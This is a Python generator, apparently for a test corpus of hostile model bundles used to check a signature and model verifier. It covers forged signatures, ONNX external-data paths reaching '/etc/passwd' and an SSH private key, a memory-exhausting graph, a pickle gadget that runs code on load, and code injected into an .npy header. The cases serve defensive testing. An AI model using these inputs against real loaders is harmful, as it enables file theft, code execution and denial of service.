def _ecdsa_signature(base: Base, envelope: dict[str, Any]) -> None:
    """Signed with an ECDSA P-256 key, but claiming the trusted ed25519 key's keyid."""
    key = ec.derive_private_key(int.from_bytes(hashlib.sha256(SEED + b"ecdsa").digest(), "big"), ec.SECP256R1())
    payload = base64.b64decode(envelope["payload"])
    signature = key.sign(pae(PAYLOAD_TYPE, payload), ec.ECDSA(hashes.SHA256()))
    envelope["signatures"] = [{"keyid": base.keyid, "sig": base64.b64encode(signature).decode()}]


def _bad_sig_base64(base: Base, envelope: dict[str, Any]) -> None:
    envelope["signatures"][0]["sig"] = "not*base64!"


def _bad_payload_base64(base: Base, envelope: dict[str, Any]) -> None:
    envelope["payload"] = envelope["payload"][:-3] + "!!!"


def _many_signatures(base: Base, envelope: dict[str, Any]) -> None:
    envelope["signatures"] = envelope["signatures"] * 1000


def _envelope_raw(raw: bytes) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        members = dict(base.members)
        members[f"signatures/{base.keyid}.dsse.json"] = raw
        return members

    return make


SIGNATURE_CASES = [
    Case("sig-manifest-changed-after-signing", "signatures", 1,
         "covers a different manifest: changed since signing: annotations.note added",
         _members_build(_manifest_changed_after_signing)),
    Case("sig-envelope-from-another-bundle", "signatures", 1, "covers a different manifest",
         _members_build(_replayed_envelope), form="directory"),
    Case("sig-untrusted-key", "signatures", 1, "bundle is signed only by untrusted keys",
         _members_build(_untrusted_signer)),
    Case("sig-malformed-base64-signature", "signatures", 1, "sig is not valid base64",
         _members_build(_edit_envelope(_bad_sig_base64))),
    Case("sig-malformed-base64-payload", "signatures", 1, "payload is not valid base64",
         _members_build(_edit_envelope(_bad_payload_base64))),
    Case("sig-wrong-payload-type", "signatures", 1, "has payloadType 'text/plain', expected " + PAYLOAD_TYPE,
         _members_build(_wrong_payload_type)),
    Case("sig-statement-over-another-subject", "signatures", 1, "covers a different manifest",
         _members_build(_statement(_other_subject))),
    Case("sig-statement-of-another-type", "signatures", 1, "is over a 'https://slsa.dev/provenance/v1' statement",
         _members_build(_statement(_other_predicate_type))),
    Case("sig-wrong-algorithm", "signatures", 1, "does not verify", _members_build(_edit_envelope(_ecdsa_signature))),
    Case("sig-thousand-signatures", "signatures", 1, "holds 1000 signatures, more than 8",
         _members_build(_edit_envelope(_many_signatures))),
    Case("sig-envelope-not-json", "signatures", 1, "is not valid JSON",
         _members_build(_envelope_raw(b"-----BEGIN PGP SIGNATURE-----\n"))),
    Case("sig-envelope-duplicate-keys", "signatures", 1, "duplicate JSON key 'payloadType'",
         _members_build(_envelope_raw(b'{"payloadType":"x","payloadType":"' + PAYLOAD_TYPE.encode() + b'"}'))),
]


# --- model cases -------------------------------------------------------------------------------


def _external(name: str, location: str) -> TensorProto:
    tensor = numpy_helper.from_array(np.zeros(8, np.float32), name)
    tensor.ClearField("raw_data")
    tensor.data_location = TensorProto.EXTERNAL
    for key, value in (("location", location), ("offset", "0"), ("length", "32")):
        entry = tensor.external_data.add()
        entry.key, entry.value = key, value
    return tensor


def _graph_model(nodes: list[Any], inputs: list[Any], outputs: list[Any], initializers: list[Any],
                 opsets: tuple[tuple[str, int], ...] = (("", 17),)) -> bytes:
    graph = helper.make_graph(nodes, "hostile", inputs, outputs, initializers)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid(d, v) for d, v in opsets])
    model.ir_version = 8
    return bytes(model.SerializeToString())


X_INFO = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4, 16])
Y_INFO = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4, 8])


def _escaping_model(location: str) -> bytes:
    """``y = x @ w`` where ``w`` lives in an external file at ``location``."""
    weights = _external("w", location)
    weights.dims[:] = [16, 8]
    return _graph_model([helper.make_node("MatMul", ["x", "w"], ["y"])], [X_INFO], [Y_INFO], [weights])


def _escaping_subgraph_model(location: str) -> bytes:
    """The external tensor hides in the ``then`` branch of an If node."""
    then_graph = helper.make_graph([helper.make_node("Identity", ["w"], ["t"])], "then", [],
                                   [helper.make_tensor_value_info("t", TensorProto.FLOAT, [8])],
                                   [_external("w", location)])
    else_graph = helper.make_graph([helper.make_node("Constant", [], ["e"], value=numpy_helper.from_array(
        np.zeros(8, np.float32)))], "else", [], [helper.make_tensor_value_info("e", TensorProto.FLOAT, [8])])
    nodes = [
        helper.make_node("ReduceSum", ["x"], ["s"], keepdims=0),
        helper.make_node("Greater", ["s", "zero"], ["c"]),
        helper.make_node("If", ["c"], ["v"], then_branch=then_graph, else_branch=else_graph),
        helper.make_node("MatMul", ["x", "w16"], ["m"]),
        helper.make_node("Add", ["m", "v"], ["y"]),
    ]
    initializers = [numpy_helper.from_array(np.array(0, np.float32), "zero"),
                    numpy_helper.from_array(np.ones((16, 8), np.float32), "w16")]
    return _graph_model(nodes, [X_INFO], [Y_INFO], initializers)


def _custom_op_model() -> bytes:
    return _graph_model([helper.make_node("Exfiltrate", ["x"], ["y"], domain="com.evil.ops")], [X_INFO], [Y_INFO],
                        [], (("", 17), ("com.evil.ops", 1)))


def _memory_hog_model(elements: int) -> bytes:
    """Fills a float32 tensor of ``elements`` ones before producing a tiny ``y``."""
    shape = numpy_helper.from_array(np.array([elements], np.int64), "shape")
    nodes = [
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=numpy_helper.from_array(
            np.array([1.0], np.float32))),
        helper.make_node("ReduceMax", ["big"], ["peak"], keepdims=0),
        helper.make_node("MatMul", ["x", "w"], ["m"]),
        helper.make_node("Add", ["m", "peak"], ["y"]),
    ]
    return _graph_model(nodes, [X_INFO], [Y_INFO], [shape, numpy_helper.from_array(np.ones((16, 8), np.float32), "w")])


def _wrong_input_model() -> bytes:
    z = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4, 12])
    return _graph_model([helper.make_node("MatMul", ["x", "w"], ["y"])], [z], [Y_INFO],
                        [numpy_helper.from_array(np.ones((12, 8), np.float32), "w")])


def _model_swap(content: Callable[[], bytes]) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        return _replace_blob(base, "model", "", content())

    return make


def memory_hog_model(elements: int) -> bytes:
    """Public for the tests that run the memory cap with a small limit."""
    return _memory_hog_model(elements)


MODEL_CASES = [
    Case("model-file-over-folder", "model", 1, "model file 'w' appears twice",
         _members_build(_model_file_over_folder(("w", "w/x")))),
    Case("model-folder-over-file", "model", 1, "model file 'w' appears twice",
         _members_build(_model_file_over_folder(("w/x", "w"))), form="directory"),
    Case("model-malformed-protobuf", "model", 3, "mlp.onnx is not a readable ONNX model",
         _members_build(_model_swap(lambda: b"\x0a\xff\xff\xff\xff\x0f" + b"\x00" * 64))),
    Case("model-external-data-dotdot", "model", 3,
         "model 'mlp.onnx' names external data '../../etc/passwd' outside its directory",
         _members_build(_model_swap(lambda: _escaping_model("../../etc/passwd")))),
    Case("model-external-data-absolute", "model", 3,
         "model 'mlp.onnx' names external data '/etc/passwd' outside its directory",
         _members_build(_model_swap(lambda: _escaping_model("/etc/passwd"))), form="directory"),
    Case("model-external-data-in-subgraph", "model", 3,
         "model 'mlp.onnx' names external data '../../../root/.ssh/id_ed25519' outside its directory",
         _members_build(_model_swap(lambda: _escaping_subgraph_model("../../../root/.ssh/id_ed25519")))),
    Case("model-external-data-not-packed", "model", 1,
         "model names external data 'weights.bin', which the bundle does not hold",
         _members_build(_model_swap(lambda: _escaping_model("weights.bin")))),
    Case("model-inputs-do-not-match", "model", 1,
         "the model does not accept the packed inputs: input 'x' expects float32[4,12], got float32[4,16]",
         _members_build(_model_swap(_wrong_input_model))),
    Case("model-custom-op-domain", "model", 3,
         "the model uses operator Exfiltrate from domain 'com.evil.ops', which onnxruntime cannot load",
         _members_build(_model_swap(_custom_op_model))),
    Case("model-memory-hog", "model", 3,
         f"re-execution exceeded the memory limit of {DEFAULT_LIMITS.max_replay_memory} bytes (max_replay_memory)",
         _members_build(_model_swap(lambda: _memory_hog_model(1 << 40)))),
]


# --- tensor cases ------------------------------------------------------------------------------


class _Canary:
    """Unpickling this would create the canary file: proof that a loader called pickle."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (self.path, "w"))


def _npy(descr: str, shape: str, data: bytes, fortran: bool = False) -> bytes:
    header = f"{{'descr': '{descr}', 'fortran_order': {fortran}, 'shape': {shape}, }}".encode("latin1")
    header = header.ljust(((10 + len(header) + 1 + 63) // 64) * 64 - 10 - 1) + b"\n"
    return b"\x93NUMPY\x01\x00" + len(header).to_bytes(2, "little") + header + data


def _pickle_npy(base: Base) -> bytes:
    payload = pickle.dumps(np.array([_Canary(str(base.root / CANARY))], dtype=object), protocol=2)
    return _npy("|O", "(1,)", payload)


def _tensor(section: str, name: str, content: Callable[[Base], bytes]) -> Callable[[Base], Members]:
    def make(base: Base) -> Members:
        return _replace_blob(base, section, name, content(base))

    return make


def _x_bytes(base: Base) -> bytes:
    return np.ascontiguousarray(base.x).tobytes()


TENSOR_CASES = [
    Case("npy-object-dtype-pickle", "tensors", 3, "input 'x': .npy dtype '|O' is not allowed",
         _members_build(_tensor("inputs", "x", _pickle_npy))),
    Case("npy-object-dtype-claimed-output", "tensors", 3, "claimed output 'y': .npy dtype '|O' is not allowed",
         _members_build(_tensor("outputs", "y", _pickle_npy)), form="directory"),
    Case("npy-wrong-shape-header", "tensors", 1, "input 'x' holds float32[8,8], manifest says float32[4,16]",
         _members_build(_tensor("inputs", "x", lambda b: _npy("<f4", "(8, 8)", _x_bytes(b))))),
    Case("npy-truncated-data", "tensors", 3, "input 'x': .npy header declares 256 data bytes, found 200",
         _members_build(_tensor("inputs", "x", lambda b: _npy("<f4", "(4, 16)", _x_bytes(b)[:200])))),
    Case("npy-huge-shape", "tensors", 3, f"input 'x': .npy header declares {4 * 10**24} data bytes, found 256",
         _members_build(_tensor("inputs", "x", lambda b: _npy("<f4", "(1000000000000, 1000000000000)",
                                                             _x_bytes(b))))),
    Case("npy-not-npy", "tensors", 3, "input 'x' is not a .npy tensor",
         _members_build(_tensor("inputs", "x", lambda b: b"x,y\n1,2\n"))),
    Case("npy-fortran-order", "tensors", 3, "input 'x': .npy data must be in C order",
         _members_build(_tensor("inputs", "x", lambda b: _npy("<f4", "(4, 16)", _x_bytes(b), fortran=True)))),
    Case("npy-header-code", "tensors", 3, "input 'x': .npy header is malformed",
         _members_build(_tensor("inputs", "x", lambda b: _npy("<f4", "__import__('os').getpid()", _x_bytes(b))))),
    Case("npy-big-endian", "tensors", 3, "input 'x': .npy data must be little-endian (dtype '>f4')",
         _members_build(_tensor("inputs", "x", lambda b: _npy(">f4", "(4, 16)", b.x.astype(">f4").tobytes())))),
]

CASES: list[Case] = [*TAR_CASES, *DIRECTORY_CASES, *BLOB_CASES, *MANIFEST_CASES, *SIGNATURE_CASES, *MODEL_CASES,
                     *TENSOR_CASES]


def build_corpus(out: Path) -> list[dict[str, Any]]:
    """Write the base and every case under ``out``; return (and write) the index."""
    base = build_base(out / "_base")
    index = []
    for case in CASES:
        bundle = case.make(base, out / case.group)
        index.append({"name": case.name, "group": case.group, "bundle": str(bundle.relative_to(out)),
                      "exit_code": case.exit_code, "reason": case.expected_reason(bundle)})
    (out / "index.json").write_text(json.dumps({"trusted_key": str(base.pub.relative_to(out)), "cases": index},
                                               indent=2) + "\n", encoding="utf-8")
    return index


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("out", type=Path, help="folder to write the corpus to (created; must not exist)")
    args = parser.parse_args(argv)
    if args.out.exists():
        print(f"{args.out} already exists", file=sys.stderr)
        return 2
    index = build_corpus(args.out)
    print(f"wrote {len(index)} hostile bundles under {args.out}; check each with "
          f"`ogverify check BUNDLE --trusted-key {args.out / '_base' / 'signer.key.pub'}`")
    return 0


if __name__ == "__main__":
    sys.exit(main())
